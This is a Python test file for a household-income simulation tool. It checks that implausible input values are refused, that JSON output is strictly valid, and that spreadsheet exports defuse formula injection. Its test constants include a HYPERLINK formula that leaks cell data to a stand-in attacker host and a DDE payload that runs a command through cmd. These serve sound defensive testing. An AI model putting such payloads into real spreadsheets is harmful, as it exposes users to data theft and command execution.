"""Issue 11's reproducers on the way out: household values that crashed or fooled the model, spreadsheet cells
that ran as formulas, invalid ``--json``; and the brief and workbook written from the command line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pandas as pd
import pytest
from openpyxl import load_workbook

from model.cli import common as cli_common
from model.cli import main as cli
from model.engine.run import run_scenario
from model.io.household_files import (
    MAX_PROBLEMS_KEPT,
    read_household_file,
    report_csv_bytes,
    report_download_frame,
    report_xlsx_bytes,
    template_example,
    template_headers,
)
from model.io.spreadsheet import FORMULA_STARTS, csv_bytes, neutral_text
from model.reports.brief import brief_html, default_quarter
from model.reports.export import frame_csv
from model.reports.workbook import workbook_bytes
from model.schema.scenario import default_scenario, dump_scenario_toml
from tests.household_samples import HEAD, as_text, good_frame
from tests.household_samples import csv_bytes as table_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, CALC, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")
QUICK = {"simulation.draws": 2, "simulation.end_quarter": "2023Q4"}


def _strict_json(text: str) -> object:
    """``json.loads`` that refuses NaN and ±Infinity, as every strict JSON parser does."""
    return json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in JSON output"))


# ------------------------------------------------------------------------------------------ household values
def _table(column: str, value: str, n: int = 12) -> bytes:
    frame = as_text(good_frame(n))
    if column == "weight":
        frame[HEAD["weight"]] = "1"
    frame.loc[0, HEAD[column]] = value
    return table_csv(frame)


REPRODUCERS = [
    ("size", "１２３", "non_numeric"),
    ("size", "1e308", "implausible"),
    ("workers", "1e308", "implausible"),
    ("wage_income_2022", "1e307", "implausible"),
    ("production_income_2022", "1e300", "implausible"),
    ("transfer_income_2022", "1e999", "implausible"),
    ("microcredit_yuan", "1e308", "implausible"),
    ("transferable_land_mu", "99999", "implausible"),
    ("weight", "1e300", "implausible"),
    ("weight", "1e-300", "implausible"),
    ("property_income_2022", "１２", "non_numeric"),
]


@pytest.mark.parametrize(("column", "value", "kind"), REPRODUCERS)
def test_implausible_household_values_are_refused_row_by_row_in_both_modes(column, value, kind):
    raw = _table(column, value)
    strict = read_household_file(raw, "x.csv", mode="strict")
    assert strict.refused and strict.problems[0].kind == kind and strict.problems[0].row == 2
    assert strict.problems[0].message("zh") and strict.problems[0].message("en")
    dropped = read_household_file(raw, "x.csv", mode="drop_bad_rows")
    assert dropped.population is not None and dropped.kept_rows == 11 and dropped.bad_rows == (2,)


def test_values_at_the_edge_of_plausible_run_with_finite_results_and_valid_json(tmp_path, capsys):
    frame = as_text(good_frame(18))
    for column in ("wage_income_2022", "production_income_2022", "property_income_2022", "transfer_income_2022"):
        frame.loc[0, HEAD[column]] = "1000000"
    frame.loc[1, HEAD["size"]] = "30"
    frame[HEAD["weight"]] = ["1000000", "0.01", *["1"] * 16]
    households = tmp_path / "edge.csv"
    households.write_bytes(table_csv(frame))
    scenario = tmp_path / "s.toml"
    scenario.write_text(dump_scenario_toml(default_scenario().with_changes(QUICK)), encoding="utf-8")
    assert cli.main(["run", str(scenario), "--households", str(households), "--json"]) == 0
    doc = _strict_json(capsys.readouterr().out)
    values = [check["value"] for key, check in doc.items() if isinstance(check, dict) and "value" in check]
    assert values and all(v is None or abs(v) < 1e12 for v in values)


def test_json_output_never_holds_nan_or_infinity():
    assert _strict_json(cli_common.json_text({"a": float("nan"), "b": [float("inf"), -float("inf")], "c": 1.5})) == {
        "a": None,
        "b": [None, None],
        "c": 1.5,
    }


def test_unreadable_files_say_why_in_the_users_language_without_exception_text():
    unterminated = table_csv(as_text(good_frame(3))) + b'"unterminated,1\n'
    for raw, name, kind in (
        (b"PK\x03\x04 damaged", "x.xlsx", "unreadable_xlsx"),
        (unterminated, "x.csv", "unreadable_csv"),
    ):
        outcome = read_household_file(raw, name)
        assert [p.kind for p in outcome.problems] == [kind]
        zh, en = outcome.report_text("zh"), outcome.report_text("en")
        assert "Error" not in zh + en and "无法" in zh and "cannot" in en


# ------------------------------------------------------------------------------------------ spreadsheets
def _formulas(xlsx: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run, or show as a formula."""
    book = load_workbook(io.BytesIO(xlsx))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{sheet.title}!{cell.coordinate}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                    bad.append(f"{sheet.title}!{cell.coordinate} unprefixed")
    return bad


def _csv_cells(raw: bytes) -> list[str]:
    return [str(v) for v in pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str).to_numpy().ravel()]


def test_the_workbook_keeps_a_hostile_name_and_description_as_text(small_population):
    scenario = default_scenario().with_changes({**QUICK, "name": HYPERLINK, "description": CALC + "\x1f\x00"})
    book = workbook_bytes(run_scenario(small_population, scenario), "zh")
    assert _formulas(book) == []
    about = [c.value for row in load_workbook(io.BytesIO(book))["说明"].iter_rows() for c in row]
    assert HYPERLINK in about  # shown exactly as typed
    assert CALC + "\ufffd\ufffd" in about  # control characters, which XLSX cannot hold, marked


def test_csv_cells_that_could_start_a_formula_get_an_apostrophe_and_numbers_stay_numbers():
    frame = pd.DataFrame({"text": list(FORMULAS), "number": [-1.5] * len(FORMULAS), HYPERLINK: ["x"] * len(FORMULAS)})
    raw = csv_bytes(frame)
    header, *rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows] == ["-1.5"] * len(FORMULAS)  # a number, not text: left as it is
    assert header[2] == "'" + HYPERLINK
    assert frame_csv(frame) == raw
    assert neutral_text("普通文本") == "普通文本" and neutral_text(3) == 3


def test_the_import_report_never_writes_a_formula_from_the_uploaded_file():
    frame = as_text(good_frame(6))
    frame.loc[1, HEAD["county"]] = HYPERLINK
    frame.loc[2, HEAD["village"]] = ""
    frame.loc[3, HEAD["size"]] = CALC
    frame.loc[4, HEAD["type"]] = "\x1f贫困户\x07"
    frame["@SUM(A1:A9)"] = "x"
    outcome = read_household_file(table_csv(frame), "x.csv")
    assert outcome.refused
    for lang in ("zh", "en"):
        assert _formulas(report_xlsx_bytes(outcome, lang)) == []
        cells = _csv_cells(report_csv_bytes(outcome, lang))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
        assert any(c.startswith("'=HYPERLINK") for c in cells)


# ------------------------------------------------------------------------------------------ the command line
@pytest.fixture()
def small_cli(monkeypatch, small_population):
    monkeypatch.setattr(cli_common, "default_population", lambda: small_population)
    return cli.main


def test_run_writes_the_brief_and_the_workbook_the_page_offers(small_cli, small_population, tmp_path):
    scenario = default_scenario().with_changes({"simulation.draws": 4, "name": HYPERLINK})
    path = tmp_path / "s.toml"
    path.write_text(dump_scenario_toml(scenario), encoding="utf-8")
    brief, book = tmp_path / "brief.html", tmp_path / "book.xlsx"
    args = ["--lang", "en", "run", str(path), "--brief", str(brief), "--workbook", str(book), "--quarter", "2024Q2"]
    assert small_cli(args) == 0
    html = brief.read_text(encoding="utf-8")
    day = dt.date.fromisoformat(re.search(r"generated (\d{4}-\d{2}-\d{2})", html).group(1))
    run = run_scenario(small_population, scenario)
    assert html == brief_html(run, "2024Q2", "en", generated=day)
    assert _cells(book.read_bytes()) == _cells(workbook_bytes(run, "en", generated=day))
    assert _formulas(book.read_bytes()) == []


def test_the_brief_defaults_to_the_pages_quarter_and_a_bad_quarter_or_path_is_refused(small_cli, tmp_path, capsys):
    assert default_quarter(["2023Q1", "2023Q4", "2024Q1"]) == "2023Q4" and default_quarter(["2024Q1"]) == "2024Q1"
    path = tmp_path / "s.toml"
    path.write_text(dump_scenario_toml(default_scenario().with_changes(QUICK)), encoding="utf-8")
    brief = tmp_path / "brief.html"
    assert small_cli(["run", str(path), "--brief", str(brief), "--quarter", "2031Q1"]) == cli.EXIT_BAD_INPUT
    assert "2023Q1–2023Q4" in capsys.readouterr().err and not brief.exists()
    assert small_cli(["run", str(path), "--workbook", str(tmp_path / "missing" / "b.xlsx")]) == cli.EXIT_BAD_INPUT
    assert "b.xlsx" in capsys.readouterr().err


def _cells(xlsx: bytes) -> dict[str, list[list[object]]]:
    book = load_workbook(io.BytesIO(xlsx))
    return {s.title: [[c.value for c in row] for row in s.iter_rows()] for s in book.worksheets}


def test_a_small_file_of_many_bad_rows_lists_the_first_problems_and_counts_the_rest():
    header = ",".join(template_headers())
    raw = (header + "\n" + "\n".join([",".join(["x"] * len(template_headers()))] * 3000) + "\n").encode()
    outcome = read_household_file(raw, "x.csv", mode="drop_bad_rows")
    assert outcome.refused and len(outcome.problems) == MAX_PROBLEMS_KEPT + 1  # and "no household is left"
    assert outcome.problem_count == 3000 * 14 + 1  # every cell but the village (any text is a village name)
    duplicate = next(p for p in outcome.problems if p.kind == "duplicate_household")
    assert duplicate.other == "2, 3, 4, …"  # never the 3,000 rows holding the same id
    assert "……另有" in outcome.report_text("zh") and len(outcome.report_text("zh")) < 10_000
    frame = report_download_frame(outcome, "en")
    assert len(frame) == MAX_PROBLEMS_KEPT + 2 and frame.iloc[-1, -1] == f"... {outcome.not_listed:,} more"


def test_a_header_of_a_million_columns_is_refused_before_it_is_classified():
    outcome = read_household_file(b"," * 1_000_000 + b"\n1\n", "x.csv")
    assert [p.kind for p in outcome.problems] == ["too_many_columns"]


def test_a_csv_cell_of_15_million_characters_is_refused_as_unreadable_csv():
    row = {**template_example(), template_headers()[2]: "x" * 15_000_000}
    raw = (",".join(template_headers()) + "\n" + ",".join(row.values()) + "\n").encode()
    assert [p.kind for p in read_household_file(raw, "x.csv").problems] == ["unreadable_csv"]
